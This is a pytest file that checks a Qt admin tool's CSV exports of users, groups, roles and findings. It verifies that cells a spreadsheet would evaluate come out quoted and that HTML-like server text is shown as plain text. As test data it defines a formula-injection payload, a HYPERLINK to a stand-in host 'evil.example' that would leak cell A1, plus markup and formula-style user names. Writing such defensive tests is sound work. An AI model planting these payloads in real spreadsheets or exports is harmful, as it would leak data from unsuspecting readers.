"""The window's CSV exports against the emulator: SCIM ids in every table, cells a spreadsheet would evaluate
quoted, and Ctrl+E on the Roles page exporting who holds the selected role and through what."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import httpx
import pytest
from PySide6.QtCore import QCoreApplication, QModelIndex
from PySide6.QtGui import QKeySequence, QShortcutEvent

from birdadmin.ui.main_window import PAGE_GROUPS, PAGE_ROLES
from tests.gui.conftest import LOAD_TIMEOUT_MS, wait_loaded
from tests.gui.test_main_window import all_users_raw, keys_holding_raw, roles_raw, scim_get, teams_raw

pytestmark = pytest.mark.usefixtures("no_qt_warnings")

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
HOLDERS_HEADER = ["id", "userName", "displayName", "active", "source", "groupId", "roleId", "role", "kind"]


def add_user(emu: Any, user_name: str, display_name: str, roles: list[str]) -> str:
    response = httpx.post(
        f"{emu.scim_url}/Users",
        headers={"Authorization": f"Bearer {emu.key}", "Content-Type": "application/scim+json"},
        content=json.dumps({"schemas": ["urn:ietf:params:scim:schemas:core:2.0:User"], "userName": user_name,
                            "displayName": display_name, "roles": roles}),
    )
    assert response.status_code == 201, response.text
    return str(response.json()["id"])


def reload(window: Any, qtbot: Any) -> None:
    with qtbot.waitSignal(window.users_loaded, timeout=LOAD_TIMEOUT_MS):
        window.window_actions.refresh.trigger()
    wait_loaded(qtbot, window)


def press_ctrl_e(window: Any, monkeypatch: pytest.MonkeyPatch, path: Path) -> list[str]:
    """Ctrl+E as the shortcut delivers it (the offscreen platform has no active window for key events), with the
    save dialog answered by ``path``; returns the file names the dialog suggested."""
    suggested: list[str] = []

    def save_as(_parent: Any, _title: str, name: str, _filter: str) -> tuple[str, str]:
        suggested.append(name)
        return str(path), ""

    monkeypatch.setattr("birdadmin.ui.file_actions.QFileDialog.getSaveFileName", save_as)
    action = window.window_actions.export
    assert QKeySequence("Ctrl+E") == action.shortcut()
    QCoreApplication.sendEvent(action, QShortcutEvent(QKeySequence("Ctrl+E"), 0))
    return suggested


def read_csv(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def test_users_export_has_ids_and_quotes_formulas(demo_window: Any, qtbot: Any, tmp_path: Path,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    emu = demo_window.emulator
    hostile = add_user(emu, "@sum.formula@example.com", FORMULA, [])
    reload(demo_window, qtbot)
    qtbot.keyClicks(demo_window.users_view.quick_filter, "example")
    press_ctrl_e(demo_window, monkeypatch, tmp_path / "users.csv")
    rows = read_csv(tmp_path / "users.csv")
    assert rows[0][:3] == ["User name", "Display name", "Active"] and rows[0][-1] == "id"
    model = demo_window.users_model
    assert [row[-1] for row in rows[1:]] == [u.id for u in model.visible_users()]
    assert len(rows) == model.rowCount() + 1
    by_id = {row[-1]: row for row in rows[1:]}
    assert by_id[hostile][:2] == ["'@sum.formula@example.com", "'" + FORMULA]
    raw = {u["id"]: u for u in all_users_raw(emu)}
    assert all(row[0] in (raw[uid]["userName"], "'" + raw[uid]["userName"]) for uid, row in by_id.items())


def test_groups_export_has_ids(demo_window: Any, qtbot: Any, tmp_path: Path,
                               monkeypatch: pytest.MonkeyPatch) -> None:
    demo_window.window_actions.groups.trigger()
    assert demo_window.current_page() == PAGE_GROUPS
    press_ctrl_e(demo_window, monkeypatch, tmp_path / "groups.csv")
    rows = read_csv(tmp_path / "groups.csv")
    listed = {g["id"]: g["displayName"] for g in scim_get(demo_window.emulator, "Groups", count=1000)["Resources"]}
    assert rows[0][0] == "Group" and rows[0][-1] == "id"
    assert {row[-1]: row[0] for row in rows[1:]} == listed


def test_ctrl_e_on_the_roles_page_exports_the_holders_of_the_selected_role(
    demo_window: Any, qtbot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    emu = demo_window.emulator
    names = roles_raw(emu)
    teams = teams_raw(emu)
    carried = {ref["id"] for t in teams for ref in t.get("roleRefs", [])}
    role_id = next(rid for rid in names if rid in carried)
    hostile = add_user(emu, "mallory@example.com", FORMULA, [role_id])
    reload(demo_window, qtbot)
    users = {u["id"]: u for u in all_users_raw(emu)}
    expected = {(uid, "direct", "") for uid, u in users.items() if role_id in u.get("roles", [])}
    keys = keys_holding_raw(emu, role_id)  # access keys hold roles directly (issue 13)
    expected |= {(kid, "direct", "") for kid in keys}
    for team in teams:
        if any(ref["id"] == role_id for ref in team.get("roleRefs", [])):
            group = scim_get(emu, f"Groups/{team['id']}")
            expected |= {(m["value"], f"group {group['displayName']}", group["id"]) for m in group.get("members", [])}
    demo_window.window_actions.roles.trigger()
    assert demo_window.current_page() == PAGE_ROLES
    assert demo_window.roles_view.select_role(role_id)
    suggested = press_ctrl_e(demo_window, monkeypatch, tmp_path / "holders.csv")
    assert suggested and names[role_id] in suggested[0]
    rows = read_csv(tmp_path / "holders.csv")
    assert rows[0] == HOLDERS_HEADER
    assert {(r[0], r[4], r[5]) for r in rows[1:]} == expected
    assert len(rows) - 1 == len(expected)
    assert {row[0] for row in rows[1:] if row[-1] == "key"} == keys
    for row in rows[1:]:
        if row[-1] == "key":
            continue
        user = users[row[0]]
        assert row[1:4] == [user["userName"], user["displayName"] if row[0] != hostile else "'" + FORMULA,
                            "yes" if user.get("active", True) else "no"]
        assert row[6:] == [role_id, names[role_id], "user"]
    assert any(row[0] == hostile and row[4] == "direct" for row in rows[1:])


def test_ctrl_e_on_the_roles_page_without_a_selected_role_exports_the_catalogue(
    demo_window: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    demo_window.window_actions.roles.trigger()
    demo_window.roles_view.table.setCurrentIndex(QModelIndex())
    assert demo_window.roles_view.current_role() is None
    press_ctrl_e(demo_window, monkeypatch, tmp_path / "roles.csv")
    rows = read_csv(tmp_path / "roles.csv")
    assert rows[0][:2] == ["Role", "UUID"] and rows[0][-1] == "id"
    assert {row[-1] for row in rows[1:]} >= set(roles_raw(demo_window.emulator))


def test_role_names_export_quotes_formulas_and_reads_back_unchanged(demo_window: Any, tmp_path: Path) -> None:
    """Local names come from a file: exported, a name that is a formula is quoted; imported again, it is the same
    name, not one with another quote in front each round."""
    model = demo_window.roles_model
    role_id, quoted_id, plain_id = (model.role_at(row).id for row in range(3))
    names = {role_id: FORMULA, quoted_id: "'80s team", plain_id: "Night shift"}
    source = tmp_path / "names.csv"
    source.write_text("id,name,description\n" + "".join(
        f'{rid},"{name.replace(chr(34), chr(34) * 2)}",-1 imported\n' for rid, name in names.items()
    ), encoding="utf-8")
    demo_window.import_role_names(str(source))
    assert {rid: model.index(model.row_of(rid), 0).data() for rid in names} == names
    for round_trip in range(2):
        out = tmp_path / f"exported-{round_trip}.csv"
        demo_window.export_role_names(str(out))
        rows = {row[0]: row[1:] for row in read_csv(out)[1:]}
        assert rows[role_id] == ["'" + FORMULA, "'-1 imported"]
        assert rows[quoted_id][0] == "''80s team" and rows[plain_id][0] == "Night shift"
        demo_window.import_role_names(str(out))
        assert {rid: model.index(model.row_of(rid), 0).data() for rid in names} == names


def test_an_export_of_an_incomplete_organization_says_so(demo_window: Any, qtbot: Any, tmp_path: Path,
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    """The file cannot carry the page's partial mark: its suggested name and the note after saving say it."""
    suggested = press_ctrl_e(demo_window, monkeypatch, tmp_path / "complete.csv")
    assert suggested == ["birdadmin.csv"]
    assert "may be missing rows" not in demo_window.statusBar().currentMessage()
    demo_window.emulator.configure(latency_ms=100, max_page_size=4)
    demo_window.loader.batch_ms = 0
    with qtbot.waitSignal(demo_window.loader.page_loaded, timeout=LOAD_TIMEOUT_MS):
        demo_window.window_actions.refresh.trigger()
    demo_window.cancel_loading()
    suggested = press_ctrl_e(demo_window, monkeypatch, tmp_path / "partial.csv")
    assert suggested == ["birdadmin (incomplete).csv"]
    assert (tmp_path / "partial.csv").exists()
    assert "may be missing rows" in demo_window.statusBar().currentMessage()


def test_server_text_that_looks_like_markup_is_shown_as_text(demo_window: Any, qtbot: Any) -> None:
    """Qt draws a label or tooltip as rich text when it merely looks like HTML; server text must stay text."""
    from PySide6.QtCore import Qt
    from PySide6.QtWidgets import QLabel

    emu = demo_window.emulator
    markup = "<b>Boss</b><img src='x'>"
    hostile = add_user(emu, "markup@example.com", markup, [])
    reload(demo_window, qtbot)
    assert demo_window.users_view.select_user(hostile)
    labels = [label for label in demo_window.findChildren(QLabel) if markup in label.text()]
    assert labels, "the display name is shown in the detail pane"
    assert all(label.textFormat() == Qt.TextFormat.PlainText for label in labels)
    assert all(label.textFormat() == Qt.TextFormat.PlainText for label in demo_window.findChildren(QLabel))


def test_the_matrix_and_findings_exports_quote_formulas_too(demo_window: Any, qtbot: Any, tmp_path: Path) -> None:
    """Every CSV the window writes goes through ``safe_text.csv_row``: the matrix and findings pages as well."""
    from birdadmin.ui.findings_page import FindingsPage
    from birdadmin.ui.matrix_page import MatrixPage

    emu = demo_window.emulator
    role_id = next(iter(roles_raw(emu)))
    add_user(emu, "=1+2@example.com", FORMULA, [role_id])  # on the matrix
    add_user(emu, "@sum.formula@example.com", "+" + FORMULA, [])  # a "no roles" finding names it
    reload(demo_window, qtbot)
    written: list[list[str]] = []
    for page_type, name in ((MatrixPage, "matrix.csv"), (FindingsPage, "findings.csv")):
        page = page_type(demo_window.context)
        qtbot.addWidget(page)
        page.resize(1100, 700)
        with qtbot.waitSignal(page.computed, timeout=LOAD_TIMEOUT_MS):
            page.show()
        if page_type is FindingsPage:
            page.severity_combo.setCurrentIndex(page.severity_combo.findData("low"))
        page.export_csv(str(tmp_path / name))
        written += read_csv(tmp_path / name)
    cells = [cell for row in written for cell in row]
    assert "'=1+2@example.com" in cells
    assert any(cell.startswith(("'+=HYPERLINK", "'@sum")) for cell in cells)
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
